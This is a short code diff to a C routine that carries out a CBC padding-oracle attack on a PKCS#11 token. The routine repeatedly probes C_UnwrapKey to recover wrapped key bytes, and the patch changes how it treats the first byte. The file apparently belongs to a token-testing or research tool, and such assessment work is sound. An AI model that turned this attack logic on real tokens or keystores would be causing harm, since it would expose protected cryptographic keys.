@@ -796,10 +796,17 @@ static void padding_oracle(CK_SESSION_HANDLE s) {
             for (int j = pos + 1; j < 16; j++) x[j] = d[j] ^ (unsigned char)padv;
             for (int g = 0; g < 256 && !found; g++) {
                 x[pos] = (unsigned char)g;
-                CK_MECHANISM probe = {CKM_AES_CBC_PAD, x, 16};
+                /* The block's padding is checked with x as its IV; for the
+                 * first byte (a whole block of padding, which leaves no key)
+                 * x goes in front as a ciphertext block instead, so the
+                 * result is a 16-byte key. */
+                unsigned char two[32], zero[16] = {0};
+                memcpy(two, x, 16);
+                memcpy(two + 16, blob, 16);
+                CK_MECHANISM probe = {CKM_AES_CBC_PAD, pos ? x : zero, 16};
                 CK_OBJECT_HANDLE h = 0;
                 queries++;
-                if (f->C_UnwrapKey(s, &probe, W, blob, 16, t, 3, &h) != CKR_OK) continue;
+                if (f->C_UnwrapKey(s, &probe, W, pos ? blob : two, pos ? 16 : 32, t, 3, &h) != CKR_OK) continue;
                 f->C_DestroyObject(s, h);
                 if (pos == 15) {  /* rule out a longer valid pad by changing the byte before */
                     x[14] ^= 1;
